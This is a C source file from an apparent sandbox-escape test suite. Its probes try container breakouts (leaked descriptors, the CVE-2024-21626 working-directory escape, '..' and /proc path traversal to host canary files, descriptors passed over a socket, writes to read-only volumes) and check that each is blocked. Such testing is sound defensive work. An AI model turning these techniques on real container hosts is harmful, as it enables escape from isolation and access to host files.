/* SPDX-License-Identifier: Apache-2.0 */

/* Files and descriptors: what leaked in, and paths that lead out. */

#include "attack.h"
#include "escape.h"

#include <base/cleanup.h>
#include <base/str.h>

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

#define LEAK_FD     9
#define FD_SEARCHED 1024
#define PTS_MAJOR   136
#define DOTS        "../../../../../../../../../../../../../../../.."

static bool is_pipe_to_judge(int fd)
{
        struct stat st;

        return fd > 2 && fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode) &&
               (fcntl(fd, F_GETFD) & FD_CLOEXEC) != 0;
}

/* Only 0, 1, 2, the pipe by which this program answers itself, and the directory being read. */
static int leaked_fds(struct attempt *a)
{
        const struct dirent *entry;
        int code = HELD;
        DIR *dir = opendir("/proc/self/fd");

        if (dir == NULL)
                return -errno;
        while (code == HELD && (entry = readdir(dir)) != NULL) {
                char target[200] = "";
                int fd = atoi(entry->d_name);

                if (fd <= 2 || fd == dirfd(dir) || is_pipe_to_judge(fd))
                        continue;
                (void)!readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1);
                code = attempt_say(a, DONE, "%d is %s", fd, target);
        }
        (void)closedir(dir);
        return code;
}

static int arrange_leak(void)
{
        int fd = open("/etc", O_RDONLY | O_DIRECTORY);

        if (fd < 0 || dup2(fd, LEAK_FD) < 0)
                return -errno;
        return fd == LEAK_FD || close(fd) == 0 ? 0 : -errno;
}

/* Standard streams are pipes, /dev/null or a pseudo-terminal: no file, no socket, no directory. */
static int odd_stdio(struct attempt *a)
{
        struct stat st;

        for (int fd = 0; fd <= 2; fd++) {
                if (fstat(fd, &st) < 0)
                        return attempt_say(a, DONE, "%d is closed", fd);
                if (S_ISFIFO(st.st_mode) || (S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3)) ||
                    (S_ISCHR(st.st_mode) && major(st.st_rdev) == PTS_MAJOR))
                        continue;
                return attempt_say(a, DONE, "%d has mode %o", fd, st.st_mode);
        }
        return HELD;
}

static int arrange_file_as_stdin(void)
{
        int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

        return fd < 0 || dup2(fd, STDIN_FILENO) < 0 ? -errno : 0;
}

/* CVE-2024-21626: a directory descriptor of the host's that is open when the box begins. */
static int cwd_by_fd(struct attempt *a)
{
        struct sweep s = SWEEP(a);

        for (int fd = 3; fd <= FD_SEARCHED; fd++) {
                char path[64];

                (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                if (sweep_add(&s, chdir(path) < 0 ? -errno : DONE, path))
                        break;
        }
        return sweep_end(&s);
}

/* getcwd(2) says "(unreachable)/…" for a directory outside the root. */
static int cwd_outside(struct attempt *a)
{
        char path[4096];

        if (getcwd(path, sizeof(path)) == NULL)
                return attempt_say(a, DONE, "it has no name: %s", ending_name(-errno));
        return path[0] == '/' ? HELD : attempt_say(a, DONE, "%.100s", path);
}

static int arrange_cwd_outside(void)
{
        if (chdir("/") < 0 || chroot("/tmp") < 0)
                return -errno;
        return 0;
}

static int open_canary(struct attempt *a, const char *name)
{
        static const char *const before[] = {"",
                                             DOTS,
                                             "/proc/self/root",
                                             "/proc/1/root",
                                             "/proc/self/cwd/" DOTS,
                                             "/proc/self/root/" DOTS,
                                             "/dev/fd/0/" DOTS,
                                             "/proc/self/fd/1/" DOTS};
        const char *path = fact(name);
        struct sweep s = SWEEP(a);
        char full[1200];

        if (path == NULL)
                return attempt_say(a, NOTHING, "no file is named");
        for (size_t i = 0; i < ELEMENTS(before); i++) {
                (void)snprintf(full, sizeof(full), "%s%s", before[i], path);
                if (sweep_add(&s, open_and_close(full, O_RDONLY), full))
                        break;
        }
        return sweep_end(&s);
}

static int named_canary(struct attempt *a)
{
        return open_canary(a, a->attack->arg);
}

static bool has_canary_name(const char *path, mode_t mode, void *data)
{
        const char *slash = strrchr(path, '/');

        if (slash == NULL || !str_eq(slash + 1, fact("CANARY_NAME")))
                return false;
        (void)attempt_say(data, DONE, "%s", path);
        return true;
}

/* Wherever it may lie in the box, under a name that only the host has. */
static const char *canary_top = "/";

static int find_canary(struct attempt *a)
{
        if (fact("CANARY_NAME") == NULL)
                return attempt_say(a, NOTHING, "no name is given");
        return walk(canary_top, 12, has_canary_name, a) ? DONE : HELD;
}

static int arrange_canary(void)
{
        char path[300];
        int fd;

        if (fact("CANARY_NAME") == NULL)
                return 0;
        (void)snprintf(path, sizeof(path), "/tmp/%s", fact("CANARY_NAME"));
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
        if (fd < 0)
                return -errno;
        canary_top = "/tmp";
        return 0;
}

/* A read-only volume, by every way to its one file. */
static int read_only_volume(struct attempt *a)
{
        const char *path = fact("RO_FILE");
        struct sweep s = SWEEP(a);
        char by_fd[64];
        int fd;

        if (path == NULL)
                return attempt_say(a, NOTHING, "no volume is named");
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return attempt_say(a, NOTHING, "%s: %s", path, ending_name(-errno));
        (void)snprintf(by_fd, sizeof(by_fd), "/proc/self/fd/%d", fd);
        if (!sweep_add(&s, open_and_close(path, O_WRONLY), "open") &&
            !sweep_add(&s, open_and_close(by_fd, O_WRONLY), "open by descriptor") &&
            !sweep_add(&s, fchmod(fd, 0600) < 0 ? -errno : DONE, "fchmod") &&
            !sweep_add(&s, futimens(fd, NULL) < 0 ? -errno : DONE, "futimens"))
                (void)sweep_add(&s, rename(path, path) < 0 ? -errno : DONE, "rename");
        (void)close(fd);
        return sweep_end(&s);
}

/* One descriptor that comes over a socket, or negative errno. */
static int receive_fd(int from_fd)
{
        union {
                struct cmsghdr head;
                char bytes[CMSG_SPACE(sizeof(int))];
        } control = {0};
        char byte;
        struct iovec data = {.iov_base = &byte, .iov_len = 1};
        struct msghdr message = {.msg_iov = &data,
                                 .msg_iovlen = 1,
                                 .msg_control = control.bytes,
                                 .msg_controllen = sizeof(control.bytes)};
        const struct cmsghdr *head;
        int fd;

        if (recvmsg(from_fd, &message, MSG_CMSG_CLOEXEC) < 0)
                return -errno;
        head = CMSG_FIRSTHDR(&message);
        if (head == NULL || head->cmsg_type != SCM_RIGHTS)
                return -ENOMSG;
        memcpy(&fd, CMSG_DATA(head), sizeof(int));
        return fd;
}

/* Somebody outside hands a directory of the host in, by a socket in a volume; all may read it. */
static int passed_fd(struct attempt *a)
{
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        const char *path = fact("SOCKET");
        cleanup_close int socket_fd = -EBADF;
        cleanup_close int dir_fd = -EBADF;
        int fd;

        if (path == NULL || fact("CANARY_NAME") == NULL)
                return attempt_say(a, NOTHING, "no socket is named");
        socket_fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (socket_fd < 0 || str_copy(address.sun_path, sizeof(address.sun_path), path) < 0 ||
            connect(socket_fd, (struct sockaddr *)&address, sizeof(address)) < 0)
                return attempt_say(a, NOTHING, "connecting to %.80s: %s", path,
                                   ending_name(-errno));
        dir_fd = receive_fd(socket_fd);
        if (dir_fd < 0)
                return attempt_say(a, NOTHING, "no descriptor came: %s", ending_name(dir_fd));

        fd = openat(dir_fd, fact("CANARY_NAME"), O_RDONLY | O_CLOEXEC);
        return fd < 0 ? -errno : DONE;
}

int swap_main(const char *a, const char *b)
{
        static const unsigned exchange = 2; /* RENAME_EXCHANGE */

        printf("swapping\n");
        while (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, exchange) == 0)
                ;
        perror("escape: swap");
        return 1;
}

const struct attack files_attacks[] = {
        ATTACK("leaked-fds", "inherited descriptors", "has a descriptor beyond 2",
               "close_range before exec", leaked_fds, NULL, PLAIN, arrange_leak, HELD),
        ATTACK("odd-stdio", "inherited descriptors", "has a file or socket as 0, 1 or 2",
               "own pipes, pseudo-terminals", odd_stdio, NULL, PLAIN, arrange_file_as_stdin, HELD),
        ATTACK("cwd-by-fd", "CVE-2024-21626", "changes into /proc/self/fd/3 to 1024",
               "close_range before chdir", cwd_by_fd, NULL, PLAIN, arrange_leak, -ENOENT, -ENOTDIR),
        ATTACK("cwd-outside", "CVE-2024-21626", "stands outside its root",
               "getcwd checked after chdir", cwd_outside, NULL, FRESH, arrange_cwd_outside, HELD),
        ATTACK("host-file", "paths", "opens a file of the host by its path, through .. and /proc",
               "mount namespace, pivot_root", named_canary, "CANARY", PLAIN, NULL, -ENOENT,
               -ENOTDIR, -EACCES),
        ATTACK("other-box", "paths", "opens a file of another box", "mount namespace, pivot_root",
               named_canary, "OTHER", PLAIN, NULL, -ENOENT, -ENOTDIR, -EACCES),
        ATTACK("find-canary", "paths", "searches its whole tree for a file of the host",
               "mount namespace, pivot_root", find_canary, NULL, FRESH, arrange_canary, HELD),
        ATTACK("passed-fd", "SCM_RIGHTS",
               "opens a file of a directory that is handed in by a socket", "Landlock", passed_fd,
               NULL, PLAIN, NULL, -EACCES),
        ATTACK("read-only-volume", "GHSA-g6ww", "writes to a volume that is read-only",
               "read-only mount", read_only_volume, NULL, PLAIN, NULL, -EROFS),
        {NULL},
};
